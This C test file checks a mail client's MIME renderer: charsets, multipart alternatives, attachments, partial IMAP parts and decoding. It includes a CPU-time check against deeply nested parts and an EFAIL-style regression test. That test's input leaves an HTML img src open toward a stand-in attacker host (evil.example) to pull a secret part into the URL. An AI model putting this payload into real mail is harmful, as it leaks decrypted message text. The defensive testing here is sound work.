/* message.c - which parts are shown, and how; whole mails and single parts.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"
#include "mail/message.h"
#include "base/limits.h"
#include "tests/mail/dump.h"
#include "tests/cpu.h"

#include <locale.h>

static Document *
render(const char *raw, bool prefer_html)
{
	g_autoptr(GBytes) bytes = g_bytes_new_static(raw, strlen(raw));
	MessageInput in = { .raw = bytes, .columns = 60, .prefer_html = prefer_html };
	return message_render(&in);
}

#define H "From: a@b.c\nSubject: s\n"
#define MULTI(kind, b) "Content-Type: multipart/" kind "; boundary=" b "\n\n"
#define PLAIN "Content-Type: text/plain\n\n"
#define HTML "Content-Type: text/html\n\n"

static const struct { const char *name, *raw, *blocks, *listed; } cases[] = {
	{ "plain", H "\nhello\n", "text|hello\n", "1" },
	{ "charset", H "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable\n\ngr=FC=DF",
		"text|grüß\n", "1" },
	{ "charset-lie", H "Content-Type: text/plain; charset=utf-8\n\ngr\xfc\xdf", "note|6 utf-8\nblank|\ntext|grüß\n", "1" },
	{ "charset-unknown", H "Content-Type: text/plain; charset=x-y\n\ngr\xfc", "note|5 x-y\nblank|\ntext|grü\n", "1" },
	{ "flowed", H "Content-Type: text/plain; format=flowed; delsp=yes\n\non \ne", "text|one\n", "1" },
	{ "html", H "Content-Type: text/html\n\n<p>hello", "text|hello\n", "1" },
	{ "html-meta-charset", H "Content-Type: text/html\n\n<meta charset=koi8-r><p>\xd0\xd2", "text|пр\n", "1" },
	{ "alternative", H MULTI("alternative", "x") "--x\n" PLAIN "plain\n--x\n" HTML "<b>rich</b>\n--x--", "text|plain\n", "1 2" },
	{ "alternative-blank-plain", H MULTI("alternative", "x") "--x\n" PLAIN " \n\n--x\n" HTML "rich\n--x--", "text|rich\n", "1 2" },
	{ "alternative-related", H MULTI("alternative", "x") "--x\n" PLAIN "\n--x\n" MULTI("related", "y") "--y\n" HTML "rich\n--y\n"
		"Content-Type: image/png\nContent-ID: <i>\n\nPNG\n--y--\n--x--", "text|rich\n", "1 2.1 2.2a" },
	{ "alternative-with-file-inside", H MULTI("alternative", "x") "--x\n" PLAIN "plain\n--x\n" MULTI("mixed", "y") "--y\n" HTML
		"rich\n--y\nContent-Type: application/pdf; name=a.pdf\n\nPDF\n--y--\n--x--",
		"text|plain\nblank|\npart|a.pdf (application/pdf, 3 bytes)\n", "1 2.1 2.2a" },
	{ "mixed", H MULTI("mixed", "x") "--x\n" PLAIN "one\n--x\nContent-Type: image/png; name=\"a/b.png\"\n\nPNG\n--x\n" PLAIN "two\n--x--",
		"text|one\nblank|\npart|a/b.png (image/png, 3 bytes)\nblank|\ntext|two\n", "1 2a 3" },
	{ "attached-text", H MULTI("mixed", "x") "--x\n" PLAIN "one\n--x\nContent-Disposition: attachment; filename=n.txt\n\nnotes\n--x--",
		"text|one\nblank|\npart|n.txt (text/plain, 5 bytes)\n", "1 2a" },
	{ "only-attached-text", H "Content-Disposition: attachment; filename=n.txt\n\nnotes", "text|notes\n", "1a" },
	{ "only-file", H "Content-Type: application/pdf\n\nPDF", "part|application/pdf (3 bytes)\nnote|11 \n", "1a" },
	{ "message", H MULTI("mixed", "x") "--x\n" PLAIN "one\n--x\nContent-Type: message/rfc822\n\nFrom: d@e.f\nX-A: b\n\ninner\n--x--",
		"text|one\nblank|\npart|Message in this message\npre|From: d@e.f\nblank|\ntext|inner\n", "1 2a 2.1" },
	{ "encoded-message", H "Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\nU3ViamVjdDogaQoKaGVsbG8=",
		"part|Message in this message\npre|Subject: i\nblank|\ntext|hello\n", "1a" },
	{ "report", H MULTI("report; report-type=delivery-status", "x") "--x\n" PLAIN "It failed.\n--x\n"
		"Content-Type: message/delivery-status\n\nAction: failed\n--x\nContent-Type: text/rfc822-headers\n\nSubject: s\n--x--",
		"text|It failed.\nblank|\npre|Action: failed\nblank|\npre|Subject: s\n", "1 2 3" },
	{ "signed", H MULTI("signed", "x") "--x\n" PLAIN "one\n--x\nContent-Type: application/pgp-signature\n\nSIG\n--x--", "text|one\n", "1 2" },
	{ "encrypted", H MULTI("encrypted", "x") "--x\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--x\n"
		"Content-Type: application/octet-stream; name=e.asc\n\nXYZ\n--x--",
		"note|18 \nblank|\npart|application/pgp-encrypted (10 bytes)\npart|e.asc (application/octet-stream, 3 bytes)\n", "1a 2a" },
	{ "calendar", H "Content-Type: text/calendar\n\nBEGIN:VEVENT\nSUMMARY:Lunch\nEND:VEVENT", "note|20 \ntext|What: Lunch\n", "1" },
	{ "enriched", H "Content-Type: text/enriched\n\n<bold>a</bold>", "text|a\n", "1" },
	{ "broken-base64", H "Content-Transfer-Encoding: base64\n\naGV*sbG8=", "note|7 \nblank|\ntext|hello\n", "1" },
	{ "no-boundary-line", H MULTI("mixed", "x") "hello", "text|hello\n", "" },
	{ "empty", "", "note|12 \n", "1" },
	{ "empty-body", H "\n", "note|12 \n", "1" },
	{ "not-mail", "<html>hi", "text|<html>hi\n", "1" },
	{ "digest", H MULTI("digest", "x") "--x\n\nSubject: a\n\none\n--x\n\nSubject: b\n\ntwo\n--x--",
		"part|Message in this message\npre|Subject: a\nblank|\ntext|one\nblank|\npart|Message in this message\npre|Subject: b\nblank|\n"
		"text|two\n", "1a 1.1 2a 2.1" },
	{ "signature-and-quote", H "\n> old\nnew\n-- \nAnna", "text|> old\ntext|new\nsig|-- /Anna\n", "1" },
};

static char *
list_parts(const Document *d)
{
	GString *out = g_string_new(NULL);
	for (guint i = 0; i < d->parts->len; i++) {
		const DocPart *p = &g_array_index(d->parts, DocPart, i);
		g_assert_true(document_name_is_safe(p->file_name));
		g_string_append_printf(out, "%s%s%s", out->len ? " " : "", p->section,
			p->attachment ? "a" : "");
	}
	return g_string_free(out, FALSE);
}

static void
test_case(gconstpointer data)
{
	gsize i = GPOINTER_TO_SIZE(data);
	g_autoptr(Document) d = render(cases[i].raw, false);
	g_autofree char *blocks = dump_blocks(d), *listed = list_parts(d);

	g_assert_cmpstr(blocks, ==, cases[i].blocks);
	g_assert_cmpstr(listed, ==, cases[i].listed);
}

static void
test_prefer_html(void)
{
	g_autoptr(Document) d =
		render(H MULTI("alternative", "x") "--x\n" PLAIN "plain\n--x\n" HTML "rich\n--x--",
		true);
	g_autofree char *blocks = dump_blocks(d);
	g_assert_cmpstr(blocks, ==, "text|rich\n");
}

/* The parts that IMAP gave so far. */
static void
test_known(void)
{
	g_autoptr(GBytes) header = g_bytes_new_static("Subject: s\n\n", 12),
		text = g_bytes_new_static("hello", 5);
	MessagePart parts[] = {
		{ .section = "1.1", .mime = "Content-Type: text/plain\r\n", .body = text, .size = 5,
			.depth = 2 },
		{ .section = "1.2", .mime = "Content-Type: text/html\r\n", .size = 900,
		.depth = 2 },
		{ .section = "2", .mime =
		"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n", .size = 780, .depth = 1 },
	};
	MessageInput in = { .header = header, .parts = parts, .n_parts = 3 };
	g_autoptr(Document) d = message_render(&in);
	g_autofree char *blocks = dump_blocks(d), *listed = list_parts(d);
	g_assert_cmpstr(blocks, ==,
		"text|hello\nblank|\npart|a.pdf (application/pdf, 570 bytes)\n");
	g_assert_cmpstr(listed, ==, "1.1 1.2 2a");
	g_assert_cmpuint(d->fields->len, ==, 1);
	g_assert_false(g_array_index(d->parts, DocPart, 2).here);

	parts[0].body = NULL;
	g_autoptr(Document) waiting = message_render(&in);
	g_autofree char *note = dump_blocks(waiting);
	g_assert_cmpstr(note, ==,
		"note|14 text/plain\nblank|\npart|a.pdf (application/pdf, 570 bytes)\n");
	g_assert_cmpuint(waiting->notes->len, ==, 0);

	MessageInput only_header = { .header = header };
	g_autoptr(Document) bare = message_render(&only_header);
	g_assert_cmpuint(bare->blocks->len, ==, 0);
	g_assert_cmpuint(bare->notes->len, ==, 0);
	MessageInput nothing = { 0 };
	document_free(message_render(&nothing));
}

static void
test_known_single(void)
{
	g_autoptr(GBytes) text = g_bytes_new_static("aGVsbG8=", 8);
	MessagePart part = { .section = "1",
		.mime = "Content-Type: text/html\nContent-Transfer-Encoding: base64\n",
		.body = text, .size = 8 };
	MessageInput in = { .parts = &part, .n_parts = 1 };
	g_autoptr(Document) d = message_render(&in);
	g_autofree char *blocks = dump_blocks(d);
	g_assert_cmpstr(blocks, ==, "text|hello\n");
}

static void
test_decode_part(void)
{
	static const char raw[] =
		H MULTI("mixed", "x") "--x\n" PLAIN "one\n--x\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n"
		"AAEC\n--x\nContent-Type: message/rfc822\n\nSubject: i\n\ninner\n--x--";
	g_autoptr(GBytes) whole = g_bytes_new_static(raw, strlen(raw));
	static const struct { const char *section; gsize len; const char *bytes; } parts[] = {
		{ "1", 3, "one" }, { "2", 3, "\0\1\2" }, { "3", 17, "Subject: i\n\ninner" }, { "3.1", 5, "inner" },
	};
	for (gsize i = 0; i < G_N_ELEMENTS(parts); i++) {
		g_autoptr(GBytes) got = message_decode_part(whole, parts[i].section, NULL);
		g_assert_nonnull(got);
		g_assert_cmpmem(g_bytes_get_data(got, NULL), g_bytes_get_size(got), parts[i].bytes,
			parts[i].len);
	}
	g_assert_null(message_decode_part(whole, "9", NULL));
	g_autoptr(GBytes) body = g_bytes_new_static("AAEC", 4), none = g_bytes_new_static("", 0);
	g_autoptr(GBytes) got =
		message_decode_part(body, "2",
		"Content-Type: image/png\nContent-Transfer-Encoding: base64\n");
	g_assert_cmpmem(g_bytes_get_data(got, NULL), g_bytes_get_size(got), "\0\1\2", 3);
	g_autoptr(GBytes) empty = message_decode_part(none, "1", "");
	g_assert_cmpuint(g_bytes_get_size(empty), ==, 0);
}

static void
test_decode_header(void)
{
	g_autofree char *text = message_decode_header("=?utf-8?q?gr=C3=BC?=\r\n x", 24);
	g_assert_cmpstr(text, ==, "grü x");
}

/* The engine fetches the text that it expects to be shown, and long ones not whole. */
static void
test_known_alternative(void)
{
	g_autofree char *lines = g_malloc(200000);
	for (gsize i = 0; i < 200000; i++)
		lines[i] = i % 50 ? 'a' : '\n';
	g_autoptr(GBytes) text = g_bytes_new_static(lines, 200000);
	MessagePart parts[] = {
		{ .section = "", .mime = "Content-Type: multipart/alternative\n" },
		{ .section = "1", .mime = "Content-Type: text/plain\n", .body = text, .size = 900000, .depth = 1 },
		{ .section = "2", .mime = "Content-Type: text/html\n", .size = 900000, .depth = 1 },
	};
	MessageInput in = { .parts = parts, .n_parts = 3, .prefer_html = true };
	g_autoptr(Document) d = message_render(&in);
	g_assert_true(g_array_index(d->parts, DocPart, 0).shown);
	g_assert_false(g_array_index(d->parts, DocPart, 1).shown);
	g_assert_true(dump_has_note(d, NOTE_CUT_BODY));
	parts[1].size = 200100;
	g_autoptr(Document) whole = message_render(&in);
	g_assert_false(dump_has_note(whole, NOTE_CUT_BODY));
}

/* M2: alternatives at every depth over many parts: each is judged once. */
static void
test_nested_alternatives(void)
{
	GString *raw = g_string_new(H);
	for (guint i = 0; i < LIMIT_MIME_DEPTH - 2; i++)
		g_string_append(raw, MULTI("alternative", "b") "--b\n");
	for (guint i = 0; i < LIMIT_MIME_PARTS; i++)
		g_string_append(raw, "\n \n--b\n");
	gint64 start = cpu_us();
	document_free(render(raw->str, false));
	g_assert_cmpint(cpu_us() - start, <, 2 * G_USEC_PER_SEC);
	g_string_free(raw, TRUE);
}

/* M11: parts are parsed alone: an attribute that one leaves open does not take up the next. */
static void
test_efail(void)
{
	g_autoptr(Document) d =
		render(H MULTI("mixed",
		"x") "--x\n" HTML "<img src=\"http://evil.example/\n--x\n" PLAIN "secret\n--x\n" HTML "\">\n--x--", false);
	g_assert_cmpuint(d->links->len, ==, 0);
	g_autofree char *blocks = dump_blocks(d);
	g_assert_nonnull(strstr(blocks, "text|secret\n"));
}

int
main(int argc, char **argv)
{
	setlocale(LC_ALL, "C.UTF-8");
	g_test_init(&argc, &argv, NULL);
	message_init();
	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autofree char *path = g_strdup_printf("/mail/message/%s", cases[i].name);
		g_test_add_data_func(path, GSIZE_TO_POINTER(i), test_case);
	}
	g_test_add_func("/mail/message/prefer-html", test_prefer_html);
	g_test_add_func("/mail/message/known-parts", test_known);
	g_test_add_func("/mail/message/known-single", test_known_single);
	g_test_add_func("/mail/message/known-alternative", test_known_alternative);
	g_test_add_func("/mail/message/decode-part", test_decode_part);
	g_test_add_func("/mail/message/decode-header", test_decode_header);
	g_test_add_func("/mail/message/M2/nested-alternatives", test_nested_alternatives);
	g_test_add_func("/mail/message/M11/parts-alone", test_efail);
	return g_test_run();
}
